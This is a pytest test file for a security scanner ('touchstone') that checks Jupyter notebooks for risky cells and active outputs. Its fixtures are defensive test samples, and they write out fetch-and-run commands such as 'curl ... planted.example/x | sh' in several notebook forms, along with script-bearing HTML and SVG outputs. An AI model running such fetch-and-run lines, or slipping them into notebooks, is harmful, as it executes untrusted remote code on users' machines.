"""Notebooks: cells are judged together as one program, commands as scripts; outputs are looked at."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from touchstone.scan.file import scan_bytes
from touchstone.scan.findings import FileResult


def notebook(*cells: Any, language: str = "python", outputs: list[Any] | None = None) -> bytes:
    made = [{"cell_type": "code", "source": cell, "outputs": outputs or [], "metadata": {}} for cell in cells]
    made.append({"cell_type": "markdown", "source": ["# Title\n", "import os; os.system('ls')"], "metadata": {}})
    metadata = {"language_info": {"name": language}}
    return json.dumps({"cells": made, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}).encode()


def scan(content: bytes, name: str = "a.ipynb") -> FileResult:
    return scan_bytes(content, name)


def rules(content: bytes) -> dict[str, str]:
    return {finding.rule: finding.severity for finding in scan(content).findings}


def test_an_ordinary_notebook_is_for_review_and_complete() -> None:
    content = notebook(
        ["%matplotlib inline\n", "!pip install -q torch\n", "import torch\n"],
        "%%time\nx = torch.ones(3)\nx?",
        "files = !ls\n%timeit -n 10 x + 1\n%cd ..\n?torch.ones",
        "%%html\n<b>bold</b>",
        "if x.sum() > 1:\n    !echo large\n",
        "",
    )
    result = scan(content)
    assert (result.format, result.verdict, result.gaps) == ("notebook", "review", ())
    assert rules(content) == {"notebook/program": "low"}


def test_a_notebook_of_text_is_clean() -> None:
    assert scan(notebook()).verdict == "clean"


@pytest.mark.parametrize(
    ("cells", "rule"),
    [
        (("import os", "os.system('echo planted')"), "python/runs-program"),
        (("!curl -s http://planted.example/x | sh",), "script/fetched-and-run"),
        (("%%bash\ncurl -s http://planted.example/x | sh",), "script/fetched-and-run"),
        (("x = !curl -s http://planted.example/x | sh",), "script/fetched-and-run"),
        (("%sx curl -s http://planted.example/x | sh",), "script/fetched-and-run"),
        (("get_ipython().system('curl -s http://planted.example/x | sh')",), "script/fetched-and-run"),
        (("!pip install -i http://planted.example/simple x",), "requirements/unprotected-address"),
        (("%run other.py",), "notebook/runs-file"),
    ],
)
def test_what_cells_do(cells: tuple[str, ...], rule: str) -> None:
    assert rule in rules(notebook(*cells))


def test_a_cell_that_does_not_parse_is_a_gap_and_hides_no_other() -> None:
    content = notebook("print 'python 2'", "import os\nos.system('echo planted')")
    assert scan(content).verdict == "unsafe"
    assert [gap.code for gap in scan(content).gaps] == ["damaged"]


def test_other_languages_are_judged_by_their_commands() -> None:
    assert rules(notebook("x <- 1", language="R")) == {"notebook/program": "low"}


@pytest.mark.parametrize(
    "data",
    [{"text/html": ["<script>", "1</script>"]}, {"application/javascript": "1"}, {"image/svg+xml": "<a onload='x'/>"}],
)
def test_active_outputs_are_noted(data: dict[str, Any]) -> None:
    content = notebook("1", outputs=[{"output_type": "display_data", "data": data}])
    assert rules(content)["notebook/active-output"] == "information"


def test_a_notebook_is_told_by_its_content_too() -> None:
    content = notebook("import os\nos.system('echo planted')")
    assert scan(content, "a.json").verdict == "unsafe"
    assert scan(b'{"a": 1}').verdict == "incomplete"


_ANY = st.recursive(
    st.none() | st.text(max_size=10) | st.integers(),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(["cells", "source", "outputs", "data", "metadata", "cell_type"]), inner)
    ),
    max_leaves=10,
)


@given(_ANY, _ANY)
def test_never_fails(cells: Any, metadata: Any) -> None:
    content = json.dumps({"cells": cells, "metadata": metadata, "nbformat": 4, "worksheets": cells}).encode()
    assert "reader" not in {gap.code for gap in (*scan(content).gaps, *scan(content, "a.json").gaps)}
